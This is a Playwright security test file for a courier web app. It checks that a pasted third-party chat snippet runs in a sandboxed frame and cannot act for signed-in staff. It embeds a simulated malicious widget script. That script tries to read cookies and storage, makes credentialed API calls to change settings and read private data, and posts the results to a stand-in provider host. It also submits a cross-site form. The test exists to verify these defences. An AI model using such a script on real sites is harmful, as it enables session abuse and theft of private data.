import { createServer, type Server } from 'node:http';
import { type AddressInfo } from 'node:net';
import { type APIRequestContext, expect, request, test } from '@playwright/test';
import { getSettings, listPages, updateSettings } from '@waybill/shared';
import { signInAdmin, signUpFirstAdmin } from '../../test-kit/accounts.js';
import { createParcel } from '../../test-kit/parcels.js';
import { signIn, staffClient } from '../support/fixtures.js';
import { Product } from '../support/product.js';

/**
 * A chat provider's snippet, pasted in Html Settings, works on the public site and is powerless
 * over staff. The provider is played by a second HTTP server on 127.0.0.1 (the product is on
 * localhost: another origin, another site). Its widget draws a bubble and then, while staff are
 * signed in in the same browser, tries what a compromised vendor would: change the settings, post a
 * form, read private data, and reports what it got back.
 */

const ADMIN = { email: 'chat-staff@example.com', password: 'chat-staff-password' };
const SECRET_RECIPIENT = 'Private Recipient Person';

/** What the provider's script tries; each line reports what came back, or the error. */
const WIDGET_JS = `
(function () {
  var provider = document.currentScript.src.replace(/\\/widget\\.js$/, '');
  var bubble = document.createElement('div');
  bubble.id = 'provider-bubble';
  bubble.textContent = 'Chat with us';
  bubble.style.cssText = 'position:fixed;right:16px;bottom:16px;width:120px;height:48px;' +
    'border-radius:24px;background:#1972f5;color:#fff;font:14px sans-serif;' +
    'display:flex;align-items:center;justify-content:center';
  document.body.appendChild(bubble);
  // A visitor opening the chat sets the vendor's code going.
  bubble.addEventListener('click', attack, { once: true });

  function attempt(name, run) {
    return Promise.resolve().then(run).then(
      function (value) { return [name, value]; },
      function (error) { return [name, 'refused: ' + error.name]; }
    );
  }
  function readAll(response) {
    return response.type === 'opaque' ? 'opaque answer' : response.text().then(function (text) {
      return response.status + ' ' + text;
    });
  }
  function attack() {
  Promise.all([
    attempt('origin', function () { return self.origin; }),
    attempt('cookie', function () { return document.cookie; }),
    attempt('storage', function () { return String(localStorage.length); }),
    attempt('page', function () { return parent.document.title; }),
    attempt('patchSettings', function () {
      return fetch('/api/settings', {
        method: 'PATCH', credentials: 'include',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ meta_description: 'Hijacked by the widget', chat_code: '' })
      }).then(readAll);
    }),
    attempt('postPage', function () {
      return fetch('/api/pages', {
        method: 'POST', credentials: 'include', mode: 'no-cors',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: 'title=Planted+by+the+widget&content=Hello'
      }).then(readAll);
    }),
    attempt('readSettings', function () {
      return fetch('/api/settings', { credentials: 'include' }).then(readAll);
    }),
    attempt('readParcels', function () {
      return fetch('/api/parcels', { credentials: 'include' }).then(readAll);
    }),
    attempt('readAdmins', function () {
      return fetch('/api/admins/status', { credentials: 'include' }).then(readAll);
    })
  ]).then(function (results) {
    return fetch(provider + '/report', {
      method: 'POST', mode: 'no-cors',
      headers: { 'Content-Type': 'text/plain' },
      body: JSON.stringify(Object.fromEntries(results))
    });
  }).then(function () {
    // Last, a plain form post to the API from the widget's frame (it navigates the frame).
    var form = document.createElement('form');
    form.method = 'POST';
    form.action = '/api/pages';
    form.innerHTML = '<input name="title" value="Posted by the widget form">' +
      '<input name="content" value="Hello">';
    document.body.appendChild(form);
    form.submit();
  });
  }
})();
`;

/** The chat provider: serves its widget script and keeps what the widget reports. */
class ChatProvider {
  readonly reports: Record<string, string>[] = [];
  private readonly server: Server = createServer((incoming, outgoing) => {
    if (incoming.method === 'GET' && incoming.url === '/widget.js') {
      outgoing.writeHead(200, { 'Content-Type': 'text/javascript' }).end(WIDGET_JS);
      return;
    }
    if (incoming.method === 'GET' && incoming.url?.startsWith('/embed?')) {
      // Another site trying to show our chat frame in its own page.
      const target = new URL(incoming.url, this.origin).searchParams.get('frame') ?? '';
      outgoing
        .writeHead(200, { 'Content-Type': 'text/html' })
        .end(`<!doctype html><title>Elsewhere</title><iframe src="${target}"></iframe>`);
      return;
    }
    if (incoming.method === 'POST' && incoming.url === '/report') {
      let body = '';
      incoming.on('data', (chunk: Buffer) => (body += chunk.toString()));
      incoming.on('end', () => {
        this.reports.push(JSON.parse(body) as Record<string, string>);
        outgoing.writeHead(204).end();
      });
      return;
    }
    outgoing.writeHead(404).end();
  });

  origin = '';

  async start(): Promise<void> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    this.origin = `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  stop(): Promise<void> {
    return new Promise((resolve) => this.server.close(() => resolve()));
  }

  /** The snippet as providers hand it out: inline code that adds their script. */
  snippet(): string {
    return [
      '<!--Start of Provider Chat Script-->',
      '<script type="text/javascript">',
      '(function () {',
      "  var s1 = document.createElement('script'), s0 = document.getElementsByTagName('script')[0];",
      '  s1.async = true;',
      `  s1.src = '${this.origin}/widget.js';`,
      "  s1.charset = 'UTF-8';",
      '  s0.parentNode.insertBefore(s1, s0);',
      '})();',
      '</script>',
      '<!--End of Provider Chat Script-->',
    ].join('\n');
  }
}

const provider = new ChatProvider();
let product: Product;
let staff: APIRequestContext;

test.beforeAll(async () => {
  await provider.start();
  // The provider's script host, as an installer names it (CHAT_SCRIPT_SOURCES).
  product = new Product({ CHAT_SCRIPT_SOURCES: provider.origin });
  await product.start();
  staff = await request.newContext({
    baseURL: product.url,
    extraHTTPHeaders: { Origin: product.url },
  });
  await signUpFirstAdmin(staffClient(staff), ADMIN);
  // Staff's own API client, to read what the widget tried to change.
  await signInAdmin(staffClient(staff), ADMIN);
  await createParcel(staffClient(staff), {
    tracking_code: 'WB000555001',
    recipient_name: SECRET_RECIPIENT,
    destination: 'Hidden Street 1',
  });
});

test.afterAll(async () => {
  await staff?.dispose();
  await product?.stop();
  await provider.stop();
});

test("a provider's snippet draws its widget in a sandboxed frame and cannot act for signed-in staff", async ({
  browser,
}) => {
  const context = await browser.newContext({ baseURL: product.url });
  const page = await context.newPage();

  await test.step('staff paste the snippet in Html Settings, signed in in this browser', async () => {
    await signIn(page, ADMIN.email, ADMIN.password);
    await page.goto('/control/settings/html');
    await page.getByLabel('Meta description').fill('Courier you can trust');
    await page.getByLabel('Chat code').fill(provider.snippet());
    await page.getByRole('button', { name: 'Save' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Settings saved' })).toBeVisible();
  });
  const saved = await staffClient(staff).data(getSettings, {});

  await test.step("the public site loads the provider's script, which draws its bubble", async () => {
    await page.goto('/');
    const frame = page.locator('iframe[title="Chat"]');
    await expect(frame).toHaveAttribute(
      'sandbox',
      'allow-scripts allow-forms allow-popups allow-popups-to-escape-sandbox',
    );
    await expect(frame.contentFrame().getByText('Chat with us')).toBeVisible();
    // The frame takes the bubble's corner of the page, not the page.
    const viewport = page.viewportSize()!;
    await expect
      .poll(async () => {
        const box = (await frame.boundingBox())!;
        return [box.x + box.width, box.y + box.height, box.width, box.height];
      })
      .toEqual([viewport.width, viewport.height, 136, 64]);
    await frame.contentFrame().getByText('Chat with us').click();
  });

  await test.step('what the script got back: no cookie, no page, no answer from the API', async () => {
    await expect.poll(() => provider.reports.length).toBe(1);
    const [report] = provider.reports;
    expect(report).toEqual({
      origin: 'null',
      cookie: 'refused: SecurityError',
      storage: 'refused: SecurityError',
      page: 'refused: SecurityError',
      patchSettings: 'refused: TypeError',
      // Sent without CORS, refused by the API (403), and even that answer is withheld
      // (Cross-Origin-Resource-Policy: same-origin).
      postPage: 'refused: TypeError',
      readSettings: 'refused: TypeError',
      readParcels: 'refused: TypeError',
      readAdmins: 'refused: TypeError',
    });
    expect(JSON.stringify(report)).not.toContain(SECRET_RECIPIENT);
  });

  await test.step("the frame's form post is refused, and nothing changed", async () => {
    await expect(page.locator('iframe[title="Chat"]').contentFrame().locator('body')).toContainText(
      'Cross-site request refused',
    );
    const after = await staffClient(staff).data(getSettings, {});
    expect(after).toEqual(saved);
    expect(after.meta_description).toBe('Courier you can trust');
    expect(await pageTitles()).not.toContainEqual(expect.stringMatching(/by the widget/));
  });

  await test.step('the same change from our own page with this session works: the sandbox stopped it', async () => {
    const status = await page.evaluate(async (route) => {
      const response = await fetch(route, {
        method: 'PATCH',
        credentials: 'include',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ meta_description: 'Changed by our own page' }),
      });
      return response.status;
    }, updateSettings.route);
    expect(status).toBe(200);
  });

  await test.step('opened on its own, the frame is still no origin of ours', async () => {
    const alone = await context.newPage();
    await alone.goto('/chat-frame');
    await alone.getByText('Chat with us').click();
    await expect.poll(() => provider.reports.length).toBe(2);
    expect(provider.reports[1]).toMatchObject({
      origin: 'null',
      cookie: 'refused: SecurityError',
      patchSettings: 'refused: TypeError',
      readSettings: 'refused: TypeError',
    });
    await expect(alone.locator('body')).toContainText('Cross-site request refused');
    const after = await staffClient(staff).data(getSettings, {});
    expect(after.meta_description).toBe('Changed by our own page');
    expect(after.chat_code).toBe(saved.chat_code);
    expect(await pageTitles()).not.toContainEqual(expect.stringMatching(/by the widget/));
  });

  await context.close();
});

test('another site cannot embed the chat frame (frame-ancestors)', async ({ page }) => {
  await page.goto(
    `${provider.origin}/embed?frame=${encodeURIComponent(`${product.url}/chat-frame`)}`,
  );
  // The page's load waits for its frame: by then the browser has refused to show it.
  await expect(page).toHaveTitle('Elsewhere');
  const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
  // Chromium shows its error page in place of a document that refuses this ancestor.
  expect(frame?.url()).toBe('chrome-error://chromewebdata/');
  await expect(page.locator('iframe').contentFrame().getByText('Chat with us')).toHaveCount(0);
});

test('no chat code, no frame', async ({ browser }) => {
  await staffClient(staff).data(updateSettings, { body: { chat_code: '' } });
  const context = await browser.newContext({ baseURL: product.url });
  const page = await context.newPage();
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await expect(page.locator('iframe[title="Chat"]')).toHaveCount(0);
  expect((await page.request.get('/chat-frame')).status()).toBe(404);
  await context.close();
});

/** Every content page's title, across the list's pages. */
async function pageTitles(): Promise<string[]> {
  const api = staffClient(staff);
  const titles: string[] = [];
  for (let page = 1; ; page += 1) {
    const list = await api.data(listPages, { query: { page } });
    titles.push(...list.data.map((entry) => entry.title));
    if (page >= list.last_page) return titles;
  }
}
